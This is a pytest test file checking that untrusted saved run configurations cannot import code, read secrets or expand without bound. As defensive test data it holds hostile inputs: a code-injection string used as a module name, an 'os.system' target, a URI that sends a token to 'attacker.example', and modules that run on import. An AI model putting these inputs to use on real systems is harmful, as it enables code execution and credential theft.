"""Untrusted run folders: nothing they name is imported, read or expanded without consent."""

from __future__ import annotations

import copy
import json
import re
import sys
from pathlib import Path
from typing import Any

import pytest
import torch
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from omegaconf import OmegaConf

from app.config import resolvers
from app.config.resolve import resolve
from app.config.saved import check_saved, half_resolve, resolve_saved
from app.runtime.errors import UserError
from app.runtime.small_files import parse_json
from tests.support.hostile_files import checkpoint_bytes
from tests.support.runs import job_for

resolvers.register()
JOB = job_for("model=mlp", "data.batch_size=50")
MODES = ["test", "valid", "predict", "export"]
CODE_AS_NAME = 'a" + str(open("was_here", "w"))[:0] + "'


def write_checkpoint(folder: Path, saved: dict[str, Any]) -> Path:
    """Write the last.safetensors of a run folder with a saved configuration."""
    content = {
        "config": saved,
        "model": {},
        "task": {},
        "epoch": 1,
        "history": [],
        "training": None,
        "number": 0,
    }
    file = folder / "untrusted" / "checkpoints" / "last.safetensors"
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(checkpoint_bytes(content))
    return file


def copy_saved() -> dict[str, Any]:
    """Return a copy of a saved configuration, to be changed."""
    return copy.deepcopy(JOB.saved)


@pytest.fixture
def import_marker(tmp_cwd: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Modules that create a file when they are imported; the fixture is its path."""
    marker = tmp_cwd / "was_here"
    monkeypatch.syspath_prepend(tmp_cwd)
    monkeypatch.setattr(sys, "dont_write_bytecode", True)
    code = f"open({str(marker)!r}, 'w').close()\nclass Net: pass\n"
    for name in ("evil", "evil/torch", "evil/torch/nn", "app/models/evil", "torchmetricsevil"):
        path = tmp_cwd / name
        path.mkdir(parents=True)
        (path / "__init__.py").write_text(code)
    (tmp_cwd / "torch").mkdir()
    (tmp_cwd / "torch" / "evil.py").write_text(code)
    for name in [name for name in sys.modules if "evil" in name.split(".")]:
        monkeypatch.delitem(sys.modules, name)  # imported by an earlier test
    return marker


@pytest.mark.parametrize("mode", MODES)
def test_untrusted_targets_are_listed_and_not_imported(
    mode: str, import_marker: Path, tmp_cwd: Path
) -> None:
    config = copy_saved()
    node = {"_target_": "evil.torch.nn.Net"}
    config["model"] = {"_target_": "evil.Net", "_args_": [[{"deep": node}]]}
    config["callbacks"]["never"] = {"a": [1, node, {"_target_": "torchmetricsevil.Net"}]}
    config["optimizer"] = {"_target_": "app.evil.Net"}
    file = write_checkpoint(tmp_cwd, config)
    with pytest.raises(UserError) as caught:
        job_for(f"mode={mode}", f"ckpt={file.parent.parent}")
    for line in (
        "callbacks.never.a.1._target_='evil.torch.nn.Net' is not allowed",
        "callbacks.never.a.2._target_='torchmetricsevil.Net' is not allowed",
        "model._args_.0.0.deep._target_='evil.torch.nn.Net' is not allowed",
        "model._target_='evil.Net' is not allowed",
        "optimizer._target_='app.evil.Net' is not allowed",
        "if you trust that code, add trusted_targets=[app.evil.Net] to the command line",
        "if you trust that code, add trusted_targets=[evil] to the command line",
    ):
        assert line in str(caught.value)
    assert not import_marker.exists()


@pytest.mark.parametrize(
    ("changes", "messages"),
    [
        (
            {
                "model": {"_target_": "evil.Net", "_args_": [{"_target_": "torch.nn.ReLU"}]},
                "callbacks": {"never": [{"_target_": "evil.torch.nn.Net"}]},
                "trusted_targets": ["evil"],  # a file cannot allow more
            },
            [
                "teacher: model._target_='evil.Net' is not allowed",
                "teacher: callbacks.never.0._target_='evil.torch.nn.Net' is not allowed",
                "add trusted_targets=[evil] to the command line",
            ],
        ),
        ({"model": {"_target_": "app.models.evil.Net"}}, ["No module named 'app.models.evil'"]),
        (
            {"model": {"_target_": "torch.nn.Linear", "in_features": "${oc.env:MY_TOKEN}"}},
            ["teacher: model.in_features='${oc.env:MY_TOKEN}' reads a secret"],
        ),
        ({"model": {"_target_": "${oc.env:HOME,x}"}}, ["reads more than its own keys"]),
        ({"model": [1]}, ["has no model: [1]"]),
    ],
)
def test_untrusted_teacher_is_refused_and_nothing_of_it_is_imported(
    changes: dict[str, Any],
    messages: list[str],
    import_marker: Path,
    tmp_cwd: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("MY_TOKEN", "confidential")
    file = write_checkpoint(tmp_cwd, copy_saved() | changes)
    with pytest.raises(UserError) as caught:
        job_for("model=mlp", "task=distill", f"teacher={file.parent.parent}")
    assert all(message in str(caught.value) for message in messages), caught.value
    assert "confidential" not in str(caught.value)
    assert not import_marker.exists()


def test_teacher_of_trusted_code_needs_trust_in_the_command(
    import_marker: Path, tmp_cwd: Path
) -> None:
    file = write_checkpoint(tmp_cwd, copy_saved() | {"model": {"_target_": "evil.Net"}})
    job_for("model=mlp", "task=distill", f"teacher={file}", "trusted_targets=[evil]")
    assert import_marker.exists()


@pytest.mark.parametrize(
    ("target", "message"),
    [
        ("evil.Net", "model._target_='evil.Net' is not allowed"),
        ("${or:${data.path},1}.Net", "model._target_='.*evil.Net' is not allowed"),
        ("${data.path}.Net", "model._target_='.*evil.Net' is not"),
        ("app.models.evil.Net", "cannot be imported: .*No module named 'app.models.evil'"),
        ("torch.nn.evil.Net", "model._target_='torch.nn.evil.Net' is not allowed"),
    ],
)
def test_untrusted_target_is_not_imported(
    target: str, message: str, import_marker: Path, tmp_cwd: Path
) -> None:
    config = copy_saved()
    config["data"]["path"] = "evil"
    config["model"]["_target_"] = target
    config["trusted_targets"] = ["evil"]  # a file cannot allow more
    file = write_checkpoint(tmp_cwd, config)
    for arguments in (("mode=test", f"ckpt={file}"), (f"resume={file.parent.parent}",)):
        with pytest.raises(UserError, match=message):
            job_for(*arguments)
    assert not import_marker.exists()


def test_trusted_targets_override_allows_import(import_marker: Path, tmp_cwd: Path) -> None:
    config = copy_saved()
    config["model"] = {"_target_": "evil.Net"}
    file = write_checkpoint(tmp_cwd, config)
    job = job_for("mode=test", f"ckpt={file}", "trusted_targets=[evil]")
    assert job.plain["model"] == {"_target_": "evil.Net"}
    assert import_marker.exists()


def test_ckpt_refuses_torch_distributed_checkpoint(tmp_cwd: Path) -> None:
    (tmp_cwd / ".metadata").write_bytes(b"")
    with pytest.raises(UserError, match=r"is a torch\.distributed\.checkpoint"):
        job_for("mode=test", f"ckpt={tmp_cwd}")


# ---- references in saved configurations


@pytest.mark.parametrize(
    "interpolation",
    [
        "${ oc.env:SECRET}",
        "${oc.env:SECRET,1}",
        "${oc.env:'SECRET'}",
        "${or:${ oc.env:SECRET},1}",
        "${or:'${oc.env:SECRET,1}'}",
        "${oc.decode:${oc.env:SECRET}}",
        "${oc.select:secret}",
        "${oc.create:{a: '${oc.env:SECRET}'}}",
        "${${data}.env:SECRET}",
        "$${data}{oc.env:SECRET}",
        "${now:%Y}",
        "${hydra:runtime.cwd}",
        "\\${now:%Y}",
        "${",
    ],
)
def test_check_saved_refuses_interpolations_that_read_this_machine(interpolation: str) -> None:
    saved = {"data": "oc", "secret": "1", "more": ["${secret}", interpolation]}
    with pytest.raises(UserError, match=r"^a\.pt: the saved configuration reads more than its own"):
        check_saved(saved, "a.pt")


@pytest.mark.parametrize(
    "text",
    [
        "${oc.env:SECRET}",
        "a ${oc.env:SECRET} b",
        "\\${oc.env:SECRET}",
        "\\\\${oc.env:SECRET}",
        "${or:'${oc.env:SECRET}'}",
        "${or:$,1}{oc.env:SECRET}",
    ],
)
def test_resolve_saved_never_reads_the_environment(
    text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECRET", "hunter2")
    saved = {"asked": text, "data": "", "more": ["${asked}", "x ${more.0}", "${or:${asked},1}"]}
    check_saved(saved, "a.pt")
    plain = resolve_saved(saved)
    assert "hunter2" not in str(plain)
    assert "oc.env:SECRET" in plain["asked"]
    assert plain["more"] == [plain["asked"], f"x {plain['asked']}", plain["asked"]]


def test_resolve_saved_calls_harmless_resolvers(tmp_cwd: Path) -> None:
    saved = {
        "a": {"size": None, "path": "b"},
        "size": "${or:${a.size},28}",
        "path": "${path:${a.path}}",
    }
    check_saved(saved, "a.pt")
    plain = resolve_saved(saved)
    assert (plain["size"], plain["path"]) == (28, str(tmp_cwd / "b"))


def test_half_resolve_keeps_references_and_resolves_to_the_same_values(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("MY_TOKEN", "t0p-s3cret")
    monkeypatch.setenv("MY_URL", "https://mine")
    config = OmegaConf.create(
        {
            "name": "mine",
            "a": {"b": [1, {"c": "${size}"}], "d": "${a.b}", "e": "${..size}", 3: "x ${size}"},
            "size": 3,
            "frozen": ["${oc.env:MY_URL}", "${name}", "${oc.decode:'{a: 1}'}", "${a.d.0}-${name}"],
            "token": ["${oc.env:MY_TOKEN}", "${data}-${oc.env:MY_TOKEN}", "${token.0}"],
            "data": "\\${oc.env:MY_URL}",
            "literal": "\\${name} ${oc.decode:'\"$\"'}{b}",
        }
    )
    plain, issues = resolve(config)
    assert issues == []
    saved = half_resolve(config, plain)
    check_saved(saved, "a.pt")
    assert resolve_saved(saved) == plain
    assert "t0p-s3cret" not in str(saved)
    assert saved["a"] == {
        "b": [1, {"c": "${size}"}], "d": "${a.b}", "e": "${..size}", "3": "x ${size}"
    }  # fmt: skip
    assert saved["frozen"] == ["https://mine", "mine", {"a": 1}, "1-mine"]
    assert saved["token"][0] == "${oc.env:MY_TOKEN}"


def repeat_node(first: Any, line: Any) -> dict[str, Any]:
    """Return 39 nodes that each refer to the one before, as in 'billion laughs'."""
    saved = {"a0": first}
    for number in range(1, 40):
        text = json.dumps(line)
        saved |= json.loads(text.replace("THIS", f"a{number}").replace("LAST", f"a{number - 1}"))
    return saved


EXPANDING = {  # more in tests/unit/config/test_limits.py
    "twice beside": repeat_node({"b": "ha"}, {"THIS": {"b": "${..LAST}", "c": "${..LAST}"}}),
    "a chain": {f"a{n}": f"${{a{n + 1}}}" for n in range(900)},
    "deeper and deeper": repeat_node("ha", {"THIS": [[[[["${LAST}"]]]]]}),
    "a circle": {"a": "${b}", "b": "${a}"},
}


@pytest.mark.parametrize("name", EXPANDING)
def test_check_saved_that_expands_without_bound_is_refused(name: str) -> None:
    message = r"a\.pt: .* (would expand to more|is nested more than|refers to itself)"
    with pytest.raises(UserError, match=message):
        check_saved(EXPANDING[name], "a.pt")


@pytest.mark.parametrize(
    ("saved", "message"),
    [
        ({"a": "${or:${b}"}, "cannot be used"),
        ({"a": "${or:${oc.env:SECRET},1}"}, "cannot be used"),
        ({"a": "${b}"}, "cannot be used: a does not resolve"),
        ({"a": "${or:" + "[" * 2_000 + "]" * 2_000 + "}"}, "nests values too deep"),
        ({"a": [torch.zeros(1)]}, "has a Tensor at a.0"),
        ({"a": {"b": (1, 2)}}, "has a tuple at a.b"),
    ],
)
def test_check_saved_malformed_is_refused(saved: dict[str, Any], message: str) -> None:
    with pytest.raises(UserError, match=r"^a\.pt: the saved configuration") as caught:
        check_saved(saved, "a.pt")
    assert message in str(caught.value)


def test_parse_json_beyond_limits_fails() -> None:
    assert parse_json('{"a": [1, NaN]}', "mine").keys() == {"a"}
    for text in ("[" * 400_000, "[" * 65 + "]" * 65, "1" * 5000, str(2**64), "{", "[1,2,3,4]"):
        with pytest.raises(UserError, match=r"^mine"):
            parse_json(text, "mine", max_values=400_000 if text[1:2] == "[" else 3)


# ---- arbitrary values in the configuration

KEYS = [
    ".".join(map(str, path))
    for path in [
        ("model",),
        ("model", "_target_"),
        ("data",),
        ("data", "name"),
        ("data", "source"),
        ("data", "source", "train"),
        ("data", "split"),
        ("trainer",),
        ("trainer", "devices"),
        ("scheduler",),
        ("scheduler", "lr_scheduler"),
        ("optimizer",),
        ("loss",),
        ("metric",),
        ("metric", "test"),
        ("callbacks",),
        ("goal",),
        ("goal", "metric"),
        ("checkpoint",),
        ("checkpoint", "monitors"),
        ("task",),
        ("average",),
        ("hydra",),
        ("seed",),
    ]
]
VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.text(max_size=5)
    | st.sampled_from(["???", "${a}"]),
    lambda inner: (
        st.lists(inner, max_size=2)
        | st.dictionaries(
            st.sampled_from(["_target_", "_args_", "_partial_", "a", ""]), inner, max_size=2
        )
    ),
    max_leaves=5,
)
CHANGES = st.dictionaries(st.sampled_from(KEYS), VALUES, min_size=1, max_size=3)


def with_changes(config: dict[str, Any], changes: dict[str, Any]) -> dict[str, Any]:
    config = copy.deepcopy(config)
    for path, value in changes.items():
        *outer, last = path.split(".")
        node: Any = config
        for key in outer:
            node = node.get(key) if isinstance(node, dict) else None
        if isinstance(node, dict):
            node[last] = value
    return config


def check_config(folder: Path, changes: dict[str, Any]) -> None:
    file = write_checkpoint(folder, with_changes(copy_saved(), changes))
    for arguments in (("mode=test", f"ckpt={file}"), (f"resume={file.parent.parent}",)):
        try:
            job_for(*arguments, "trainer.limit_test_batches=3")
        except UserError as error:
            assert len(str(error)) < 20_000


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            {"model": {"_target_": "os.system", "command": "touch x"}},
            "model._target_='os.system' is not allowed",
        ),
        ({"notes": "${oc.env:HOME,x}"}, "reads more than its own keys"),
        ({"notes": "${oc.env:MY_TOKEN}"}, "the saved run reads this variable"),
        ({"notes": "${tags}", "tags": "${notes}"}, "cannot be used"),
        ("[1]", "does not contain a JSON object"),
        ("[" * 5000, "nests values more than 64 deep"),
        ("{", "is not JSON"),
        (" " * 1_000_001, "has 1,000,001 bytes; allowed: 1,000,000"),
    ],
)
def test_untrusted_configuration_of_a_restart_is_refused(
    tmp_cwd: Path, monkeypatch: pytest.MonkeyPatch, content: Any, message: str
) -> None:
    monkeypatch.setenv("MY_TOKEN", "confidential")
    file = tmp_cwd / "untrusted" / "checkpoints" / "start.json"
    file.parent.mkdir(parents=True)
    text = content if isinstance(content, str) else json.dumps(copy_saved() | content)
    file.write_text(text)
    with pytest.raises(UserError, match=re.escape(message)) as error:
        job_for("resume=untrusted")
    assert "confidential" not in str(error.value)
    file.write_text(json.dumps(copy_saved()))
    assert job_for("resume=untrusted").config.data.batch_size == 50


@pytest.mark.parametrize(
    "changes",
    [
        {"scheduler": -1},
        {"scheduler": {"_target_": "torch.nn.Linear"}},
        {"scheduler.lr_scheduler": 5},
        {"optimizer": {"_target_": "torch.nn.Linear", "_args_": None}},
        {"trainer": []},
        {"notes": "\ud800", "data.name": "\ud800"},
        {"hydra": {"a": [{}]}, "data": None},
    ],
)
def test_malformed_saved_config_fails_with_user_error(
    tmp_cwd: Path, changes: dict[str, Any]
) -> None:
    check_config(tmp_cwd, changes)


@pytest.mark.long
@settings(
    max_examples=150,
    deadline=None,
    database=None,
    phases=[Phase.generate],
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(changes=CHANGES)
def test_random_saved_config_fails_with_user_error(tmp_cwd: Path, changes: dict[str, Any]) -> None:
    check_config(tmp_cwd, changes)


# ---- code in the names of parts


@pytest.mark.parametrize("mode", MODES)
def test_code_in_the_name_of_a_part_is_refused(mode: str, tmp_cwd: Path) -> None:
    """torch.fx and torch.export write such names into code that they run."""
    config = copy_saved()
    parts = {CODE_AS_NAME: {"_target_": "torch.nn.Flatten"}}
    config["model"] = {
        "_target_": "torchvision.models.feature_extraction.create_feature_extractor",
        "model": {"_target_": "torch.nn.ModuleDict", "modules": parts},
        "return_nodes": [CODE_AS_NAME],
    }
    file = write_checkpoint(tmp_cwd, config)
    with pytest.raises(UserError, match="create_feature_extractor' is not allowed"):
        job_for(f"mode={mode}", f"ckpt={file}")
    config["model"] = config["model"]["model"]
    with pytest.raises(UserError, match="cannot name a part"):
        job_for(f"mode={mode}", f"ckpt={write_checkpoint(tmp_cwd, config)}")
    assert not (tmp_cwd / "was_here").exists()


# ---- environment variables


def test_saved_run_reads_environment_variable_only_if_overridden(
    tmp_cwd: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The address in the saved run could be an attacker's."""
    monkeypatch.setenv("MY_TOKEN", "t0p-s3cret")
    config = copy_saved()
    address = "https://attacker.example/${oc.env:MY_TOKEN}"
    config["callbacks"]["mlflow"] = {
        "_target_": "app.callbacks.mlflow.MLflow",
        "tracking_uri": address,
    }
    file = write_checkpoint(tmp_cwd, config)
    key = "callbacks.mlflow.tracking_uri"
    with pytest.raises(UserError) as refused:
        job_for("mode=test", f"ckpt={file}")
    assert f"{key}={address!r}: the saved run reads this variable" in str(refused.value)
    assert "t0p" not in str(refused.value)
    job = job_for("mode=test", f"ckpt={file}", f"+{key}='{address}'")
    assert "t0p-s3cret" in job.config.callbacks["mlflow"]["tracking_uri"]  # type: ignore[index]
    assert "t0p-s3cret" not in str(job.plain)


def test_half_resolve_saves_paths_that_depend_on_the_folder_as_absolute(
    tmp_cwd: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    values = {"kind": "n", "root": "${path:d/${kind}}", "train": {"root": "${root}/train"}}
    config = OmegaConf.create(values)
    saved = half_resolve(config, resolve(config)[0])
    (tmp_cwd / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_cwd / "elsewhere")
    assert resolve_saved(saved)["root"] == str(tmp_cwd / "d" / "n")
    assert saved["train"]["root"] == "${root}/train"
